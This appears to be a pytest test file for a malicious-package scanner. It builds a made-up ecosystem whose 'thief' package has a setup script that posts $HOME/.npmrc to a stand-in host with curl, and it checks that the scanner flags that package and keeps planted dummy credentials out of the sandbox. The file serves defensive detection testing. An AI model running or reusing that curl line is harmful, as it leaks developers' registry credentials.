"""An ecosystem is one folder: a made-up one (tests/fixtures/made) is added to the list, and a project of it is scanned
in the real box by a program that knows nothing else of it."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from package_hunter.ecosystems import known
from package_hunter.ecosystems.base import stage
from package_hunter.ecosystems.interface import Ecosystem
from package_hunter.ecosystems.locked import lock_file
from package_hunter.model.report import Report
from package_hunter.model.scan import Verdict
from package_hunter.pipeline import ScanOptions, scan_target
from package_hunter.report import cyclonedx, gitlab, osv
from tests.fixtures.made.interface import MadeEcosystem
from tests.support.requires import needs_btf, needs_root, needs_runc

_EVIL = "generic/thief@2.0"
_STEAL = "curl -s -o /dev/null -d @$HOME/.npmrc http://collect.made.test/ || true\n"


@pytest.fixture(scope="module")
def made() -> Iterator[None]:
    """The list with one more ecosystem."""
    known.use((*known.ECOSYSTEMS, MadeEcosystem))
    yield
    known.use()


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("made") / "shop"
    (folder / "archives").mkdir(parents=True)
    _archive(folder / "archives/good-1.0.tar", {"load.sh": "echo loaded\n", "setup.sh": "echo > built\n"})
    _archive(folder / "archives/thief-2.0.tar", {"setup.sh": _STEAL})
    wanted = {"good": "archives/good-1.0.tar", "thief": "archives/thief-2.0.tar"}
    manifest = {"home": "https://ci:hunter2@code.made.test/shop", "dependencies": wanted}
    (folder / "made.json").write_text(json.dumps(manifest, indent=1))
    (folder / "made.auth").write_text("machine made.test login a password secret\n")
    return folder


@pytest.fixture(scope="module")
def report(made: None, project: Path) -> Report:
    needs_root()
    needs_btf()
    needs_runc()
    return scan_target(str(project), ScanOptions())


def _archive(path: Path, files: dict[str, str]) -> None:
    with tarfile.open(path, "w") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, io.BytesIO(text.encode()))


def test_its_packages_are_installed_and_loaded(report: Report) -> None:
    assert report.target.ecosystem == "made"
    assert [package.purl for package in report.packages] == ["pkg:generic/good@1.0", f"pkg:{_EVIL}"]
    assert {phase.name: phase.status for phase in report.coverage.phases} == {
        "fetch": "ok", "install": "ok", "import": "ok"
    }  # fmt: skip
    assert report.coverage.packages_installed == 2 and not report.coverage.reasons


def test_who_steals_is_told_by_its_own_name(report: Report) -> None:
    assert report.verdict is Verdict.MALICIOUS
    proof = [finding for finding in report.findings if finding.proof]
    assert proof and all(f.blame and f.blame.package == f"pkg:{_EVIL}" for f in proof)
    assert {f.blame.script for f in proof if f.blame} == {"setup"}


def test_its_credentials_stay_outside(report: Report) -> None:
    notes = " ".join(report.coverage.notes)
    assert "made.auth was kept out of the box" in notes  # the unpacker, a process of its own, was told of it
    assert "made.json" in notes  # so was it that this file may name a user and password


def test_reports_call_it_by_its_names(report: Report, project: Path) -> None:
    (file,) = json.loads(gitlab.render(report, project))["dependency_files"]
    assert (file["path"], file["package_manager"]) == ("made.json", "maker")
    assert osv.render(report) == ""  # OSV has no name for it
    components = json.loads(cyclonedx.render(report))["components"]
    assert [one["purl"] for one in components] == ["pkg:generic/good@1.0", f"pkg:{_EVIL}"]


def test_what_it_pins_is_compared(made: None, project: Path) -> None:
    source_tree = stage("shop", project)
    found = lock_file(source_tree.tree, source_tree.project)
    assert found is not None and found.ecosystem == "made"
    assert [(pin.name, pin.version) for pin in found.packages] == [("good", "1.0"), ("thief", "2.0")]


@pytest.mark.parametrize("part", ["facts", "planning"])
def test_a_part_that_is_left_out_is_named(part: str) -> None:
    parts = {key: value for key, value in vars(MadeEcosystem).items() if key != part}
    without = type("Without", (Ecosystem,), parts)
    (sentence,) = known.missing(without)
    assert sentence.startswith(f"The ecosystem of tests.fixtures.made has no {part}: ")
    with pytest.raises(known.IncompleteEcosystemError, match=part):
        known.use((*known.ECOSYSTEMS, without))


@pytest.mark.parametrize("part", ["recognise", "plan", "lock_files", "project_of"])
def test_a_part_of_its_planning_that_is_left_out_is_named(part: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.fixtures.made import planning

    parts = {key: value for key, value in vars(planning.MadePlanning).items() if key != part}
    monkeypatch.setattr(
        planning, "MadePlanning", type("MadePlanning", planning.MadePlanning.__bases__, parts)
    )
    (sentence,) = known.missing(MadeEcosystem)
    assert sentence.startswith("The ecosystem of tests.fixtures.made has no ") and part in sentence
